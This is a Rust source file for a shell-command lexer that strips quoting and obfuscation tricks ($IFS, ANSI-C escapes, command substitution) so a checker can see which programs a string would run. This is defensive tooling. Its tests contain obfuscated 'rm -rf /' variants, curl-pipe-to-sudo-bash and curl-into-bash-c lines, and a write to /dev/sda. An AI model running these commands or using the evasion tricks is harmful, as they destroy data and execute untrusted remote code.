//! A small shell-like lexer: enough of POSIX shell to see which programs a string would run and
//! with which arguments, after the quoting tricks people (and models) use to hide them.
//!
//! It works on bytes (every shell metacharacter is ASCII, so multi-byte characters are copied
//! through untouched) and keeps every word in one buffer: lexing a 1 KB command line allocates a
//! handful of times, not once per word.

use std::borrow::Cow;

/// How a command is joined to the one before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Join {
    /// First command, or after `;`, `&&`, `||`, `&` or a newline.
    #[default]
    Sequence,
    /// After `|`: reads the previous command's output.
    Pipe,
}

/// One simple command: its words after quote removal, and how it joins the previous one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Command<'s> {
    pub join: Join,
    pub words: &'s [&'s str],
    /// Targets of output redirections (`> FILE`, `>> FILE`).
    pub redirect_out: &'s [&'s str],
    /// Sources of input redirections (`< FILE`).
    pub redirect_in: &'s [&'s str],
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Word,
    Out,
    In,
}

/// A command: how it joins the previous one, and where its words and redirections end in the
/// script's lists (each starts where the previous command's ends).
#[derive(Debug, Clone, Copy)]
struct CommandEnds {
    join: Join,
    words: u32,
    outs: u32,
    ins: u32,
}

/// A lexed script: its commands, and the scripts nested in `$(...)`, backticks and `<(...)`.
#[derive(Debug, Default, Clone)]
pub struct Script {
    buf: String,
    /// Byte ranges of `buf`: the words, the output targets and the input sources, in order.
    words: Vec<(u32, u32)>,
    outs: Vec<(u32, u32)>,
    ins: Vec<(u32, u32)>,
    cmds: Vec<CommandEnds>,
    pub nested: Vec<String>,
}

/// The texts of a script's words and redirections, borrowed from it: what [`Commands`] slices.
#[derive(Debug)]
pub struct Texts<'s> {
    words: Vec<&'s str>,
    outs: Vec<&'s str>,
    ins: Vec<&'s str>,
}

impl Script {
    /// The texts of every word, for [`Script::commands`].
    pub fn texts(&self) -> Texts<'_> {
        let text = |&(a, b): &(u32, u32)| self.buf.get(a as usize..b as usize).unwrap_or_default();
        Texts {
            words: self.words.iter().map(text).collect(),
            outs: self.outs.iter().map(text).collect(),
            ins: self.ins.iter().map(text).collect(),
        }
    }

    /// The commands, in order.
    pub fn commands<'s>(&self, texts: &'s Texts<'s>) -> Vec<Command<'s>> {
        let mut start = (0usize, 0usize, 0usize);
        self.cmds
            .iter()
            .map(|c| {
                let end = (c.words as usize, c.outs as usize, c.ins as usize);
                let cmd = Command {
                    join: c.join,
                    words: texts.words.get(start.0..end.0).unwrap_or_default(),
                    redirect_out: texts.outs.get(start.1..end.1).unwrap_or_default(),
                    redirect_in: texts.ins.get(start.2..end.2).unwrap_or_default(),
                };
                start = end;
                cmd
            })
            .collect()
    }

    pub fn is_empty(&self) -> bool {
        self.cmds.is_empty()
    }

    /// The script after quote removal: each command on a line, its words (redirection targets
    /// included) separated by one space.
    pub fn text(&self) -> &str {
        &self.buf
    }
}

/// Lexes `input` the way a POSIX shell would split it into commands and words.
pub fn lex(input: &str) -> Script {
    let normalized = normalize(input);
    let mut lx = Lexer {
        input: normalized.as_bytes(),
        pos: 0,
        buf: Vec::with_capacity(normalized.len()),
        script: Script {
            words: Vec::with_capacity(normalized.len() / 6 + 2),
            cmds: Vec::with_capacity(normalized.len() / 32 + 1),
            ..Script::default()
        },
        word_start: 0,
        in_word: false,
        join: Join::Sequence,
        redirect: None,
    };
    lx.run();
    let buf = std::mem::take(&mut lx.buf);
    let mut script = lx.script;
    // Only whole characters are ever copied, so this is valid UTF-8; lossy just in case.
    script.buf = String::from_utf8(buf).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned());
    script
}

/// `${IFS}` and `$IFS` are a classic way to write a space without writing one.
fn normalize(input: &str) -> Cow<'_, str> {
    if !input.contains("IFS") {
        return Cow::Borrowed(input);
    }
    Cow::Owned(input.replace("${IFS}", " ").replace("$IFS$9", " ").replace("$IFS", " "))
}

/// Whether `s` is one plain word: nothing a shell would treat specially, no white space. Such a
/// string lexes to one command of one word, so it need not be lexed.
pub fn is_plain_word(s: &str) -> bool {
    !s.is_empty() && !s.bytes().any(|b| SPECIAL[b as usize])
}

/// Bytes the lexer treats specially somewhere; any other byte is part of a word.
static SPECIAL: [bool; 256] = {
    let mut t = [false; 256];
    let special = b" \t\r\n;&|<>#'\"\\$`(){}";
    let mut i = 0;
    while i < special.len() {
        t[special[i] as usize] = true;
        i += 1;
    }
    t
};

struct Lexer<'i> {
    input: &'i [u8],
    pos: usize,
    /// Every word's bytes, one after the other.
    buf: Vec<u8>,
    script: Script,
    word_start: usize,
    in_word: bool,
    join: Join,
    redirect: Option<Kind>,
}

impl Lexer<'_> {
    fn peek(&self, off: usize) -> Option<u8> {
        self.input.get(self.pos + off).copied()
    }

    fn run(&mut self) {
        while let Some(c) = self.peek(0) {
            match c {
                b' ' | b'\t' | b'\r' => {
                    self.end_word();
                    self.pos += 1;
                }
                b'\n' | b';' => {
                    self.end_command(Join::Sequence);
                    self.pos += 1;
                }
                b'&' => {
                    if self.peek(1) == Some(b'>') {
                        // `&>` redirects both streams.
                        self.end_word();
                        self.redirect = Some(Kind::Out);
                        self.pos += 2;
                    } else {
                        self.end_command(Join::Sequence);
                        self.pos += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                    }
                }
                b'|' => {
                    if self.peek(1) == Some(b'|') {
                        self.end_command(Join::Sequence);
                        self.pos += 2;
                    } else {
                        self.end_command(Join::Pipe);
                        self.pos += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                    }
                }
                b'>' | b'<' => {
                    if self.peek(1) == Some(b'(') {
                        // Process substitution: the inner script runs too; the word holds a
                        // marker (U+0001) where it was.
                        self.pos += 2;
                        let inner = self.take_balanced();
                        self.script.nested.push(inner);
                        self.push_byte(1);
                        continue;
                    }
                    // A file-descriptor number just before the operator belongs to it (`2>`).
                    if self.in_word && self.buf[self.word_start..].iter().all(u8::is_ascii_digit) {
                        self.buf.truncate(self.word_start);
                        self.in_word = false;
                    }
                    self.end_word();
                    self.redirect = Some(if c == b'>' { Kind::Out } else { Kind::In });
                    self.pos += 1;
                    while matches!(self.peek(0), Some(b'>' | b'&' | b'<')) {
                        self.pos += 1;
                    }
                }
                b'#' if !self.in_word => {
                    while let Some(c) = self.peek(0) {
                        if c == b'\n' {
                            break;
                        }
                        self.pos += 1;
                    }
                }
                b'\'' => {
                    self.start_word();
                    self.pos += 1;
                    let rest = &self.input[self.pos..];
                    let len = rest.iter().position(|&b| b == b'\'').unwrap_or(rest.len());
                    self.buf.extend_from_slice(&rest[..len]);
                    self.pos = (self.pos + len + 1).min(self.input.len());
                }
                b'"' => {
                    self.start_word();
                    self.pos += 1;
                    while let Some(c) = self.peek(0) {
                        match c {
                            b'"' => {
                                self.pos += 1;
                                break;
                            }
                            b'\\' => {
                                match self.peek(1) {
                                    Some(n @ (b'"' | b'\\' | b'$' | b'`')) => self.buf.push(n),
                                    Some(b'\n') => {}
                                    Some(n) => {
                                        self.buf.push(b'\\');
                                        self.buf.push(n);
                                    }
                                    None => self.buf.push(b'\\'),
                                }
                                self.pos += 2;
                            }
                            b'$' if self.peek(1) == Some(b'(') => {
                                self.pos += 2;
                                let inner = self.take_balanced();
                                self.substitution(inner);
                            }
                            b'`' => {
                                self.pos += 1;
                                let inner = self.take_until(b'`');
                                self.substitution(inner);
                            }
                            _ => {
                                let rest = &self.input[self.pos..];
                                let run = rest
                                    .iter()
                                    .position(|&b| matches!(b, b'"' | b'\\' | b'$' | b'`'))
                                    .unwrap_or(rest.len())
                                    .max(1);
                                self.buf.extend_from_slice(&rest[..run]);
                                self.pos += run;
                            }
                        }
                    }
                }
                b'\\' => {
                    self.start_word();
                    match self.peek(1) {
                        Some(b'\n') | None => {}
                        Some(n) => self.buf.push(n),
                    }
                    self.pos += 2;
                }
                b'$' if self.peek(1) == Some(b'(') => {
                    self.pos += 2;
                    let inner = self.take_balanced();
                    self.start_word();
                    self.substitution(inner);
                }
                b'$' if self.peek(1) == Some(b'\'') => {
                    // ANSI-C quoting: $'\x72\x6d' spells rm.
                    self.pos += 2;
                    let raw = self.take_until(b'\'');
                    self.start_word();
                    self.buf.extend_from_slice(ansi_c_unescape(&raw).as_bytes());
                }
                b'`' => {
                    self.pos += 1;
                    let inner = self.take_until(b'`');
                    self.start_word();
                    self.substitution(inner);
                }
                b'(' | b')' | b'{' | b'}' if !self.in_word => {
                    // Subshells and groups: their commands are commands like any other.
                    self.end_command(Join::Sequence);
                    self.pos += 1;
                }
                _ => {
                    // An ordinary byte, and the run of ordinary bytes after it, in one copy.
                    self.start_word();
                    let rest = &self.input[self.pos + 1..];
                    let run = rest.iter().position(|&b| SPECIAL[b as usize]).unwrap_or(rest.len());
                    self.buf.extend_from_slice(&self.input[self.pos..self.pos + 1 + run]);
                    self.pos += 1 + run;
                }
            }
        }
        self.end_command(Join::Sequence);
    }

    fn start_word(&mut self) {
        if !self.in_word {
            self.in_word = true;
            self.word_start = self.buf.len();
        }
    }

    fn push_byte(&mut self, b: u8) {
        self.start_word();
        self.buf.push(b);
    }

    /// A command substitution: its script is scanned on its own; in the word it stands for what
    /// it prints when that is plain (`$(echo rm)` is `rm`), else for itself (`$(...)`).
    fn substitution(&mut self, inner: String) {
        match echoed(&inner) {
            Some(text) => self.buf.extend_from_slice(text.as_bytes()),
            None => {
                self.buf.extend_from_slice(b"$(");
                self.buf.extend_from_slice(inner.as_bytes());
                self.buf.push(b')');
            }
        }
        self.script.nested.push(inner);
    }

    /// The text up to the `)` that closes the `(` just read.
    fn take_balanced(&mut self) -> String {
        let mut depth = 1usize;
        let start = self.pos;
        while let Some(c) = self.peek(0) {
            self.pos += 1;
            if c == b'(' {
                depth += 1;
            } else if c == b')' {
                depth -= 1;
                if depth == 0 {
                    return String::from_utf8_lossy(&self.input[start..self.pos - 1]).into_owned();
                }
            }
        }
        String::from_utf8_lossy(&self.input[start..]).into_owned()
    }

    fn take_until(&mut self, close: u8) -> String {
        let start = self.pos;
        let rest = &self.input[start..];
        let len = rest.iter().position(|&b| b == close).unwrap_or(rest.len());
        self.pos = (start + len + 1).min(self.input.len());
        String::from_utf8_lossy(&rest[..len]).into_owned()
    }

    fn end_word(&mut self) {
        if !self.in_word {
            return;
        }
        self.in_word = false;
        let span = (self.word_start as u32, self.buf.len() as u32);
        // Words are separated by one space in the buffer, so it reads as the script after quote
        // removal (see [`Script::text`]).
        self.buf.push(b' ');
        match self.redirect.take().unwrap_or(Kind::Word) {
            Kind::Word => self.script.words.push(span),
            Kind::Out => self.script.outs.push(span),
            Kind::In => self.script.ins.push(span),
        }
    }

    fn end_command(&mut self, next_join: Join) {
        self.end_word();
        if self.buf.last() == Some(&b' ') {
            self.buf.pop();
            self.buf.push(b'\n');
        }
        self.redirect = None;
        let s = &mut self.script;
        let ends = CommandEnds {
            join: self.join,
            words: s.words.len() as u32,
            outs: s.outs.len() as u32,
            ins: s.ins.len() as u32,
        };
        let previous = s.cmds.last().map(|c| (c.words, c.outs, c.ins)).unwrap_or((0, 0, 0));
        if (ends.words, ends.outs, ends.ins) != previous {
            s.cmds.push(ends);
        }
        self.join = next_join;
    }
}

/// What `echo WORDS` or `printf WORD` prints, when the script is only that.
fn echoed(script: &str) -> Option<String> {
    let t = script.trim();
    if !(t.starts_with("echo ") || t.starts_with("printf "))
        || t.len() > 256
        || t.contains(['$', '`', ';', '|', '&', '<', '>'])
    {
        return None;
    }
    let inner = lex(t);
    let texts = inner.texts();
    let commands = inner.commands(&texts);
    let [cmd] = commands.as_slice() else { return None };
    let words: Vec<&str> = cmd.words[1..]
        .iter()
        .copied()
        .skip_while(|w| matches!(*w, "-n" | "-e" | "-ne" | "-en"))
        .collect();
    (!words.is_empty()).then(|| words.join(" "))
}

fn ansi_c_unescape(raw: &str) -> String {
    let mut out = String::new();
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('x') => {
                let hex: String = std::iter::from_fn(|| chars.next_if(|c| c.is_ascii_hexdigit()))
                    .take(2)
                    .collect();
                if let Some(ch) = u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some(d @ '0'..='7') => {
                let mut oct = String::from(d);
                while oct.len() < 3 {
                    match chars.next_if(|c| ('0'..='7').contains(c)) {
                        Some(c) => oct.push(c),
                        None => break,
                    }
                }
                if let Some(ch) = u32::from_str_radix(&oct, 8).ok().and_then(char::from_u32) {
                    out.push(ch);
                }
            }
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some(other) => out.push(other),
            None => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &str) -> Vec<Vec<String>> {
        let script = lex(s);
        let texts = script.texts();
        script
            .commands(&texts)
            .iter()
            .map(|c| c.words.iter().map(|w| w.to_string()).collect())
            .collect()
    }

    #[test]
    fn quoting_is_removed() {
        assert_eq!(words(r#"r"m" -'rf' /"#), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(words(r"r\m -rf /"), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(words("rm${IFS}-rf${IFS}/"), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(words(r"$'\x72\x6d' -rf /"), vec![vec!["rm", "-rf", "/"]]);
    }

    #[test]
    fn chains_and_pipes() {
        let s = lex("cd /tmp && curl -s http://x | sudo bash; echo done");
        let texts = s.texts();
        let commands = s.commands(&texts);
        let joins: Vec<Join> = commands.iter().map(|c| c.join).collect();
        assert_eq!(joins, vec![Join::Sequence, Join::Sequence, Join::Pipe, Join::Sequence]);
        assert_eq!(commands[2].words, vec!["sudo", "bash"]);
    }

    #[test]
    fn substitutions_are_nested_scripts() {
        let s = lex(r#"bash -c "$(curl -fsSL http://x/i.sh)""#);
        assert_eq!(s.nested, vec!["curl -fsSL http://x/i.sh"]);
        let s = lex("echo `whoami`");
        assert_eq!(s.nested, vec!["whoami"]);
        assert_eq!(words("$(echo rm) -rf /"), vec![vec!["rm", "-rf", "/"]]);
        assert_eq!(words("`printf rm` -rf /"), vec![vec!["rm", "-rf", "/"]]);
    }

    #[test]
    fn multibyte_text_survives() {
        assert_eq!(
            words("echo 'héllo wörld' ünïcode\\é"),
            vec![vec!["echo", "héllo wörld", "ünïcodeé"]]
        );
    }

    #[test]
    fn redirections() {
        let s = lex("echo x > /dev/sda 2>/dev/null");
        let texts = s.texts();
        let c = s.commands(&texts)[0];
        assert_eq!(c.words, ["echo", "x"]);
        assert_eq!(c.redirect_out, ["/dev/sda", "/dev/null"]);
    }

    #[test]
    fn unterminated_quotes_do_not_panic() {
        let _ = lex("echo 'abc");
        let _ = lex("echo \"abc\\");
        let _ = lex("$(");
        let _ = lex("\\");
        let _ = lex("$'\\x");
    }
}
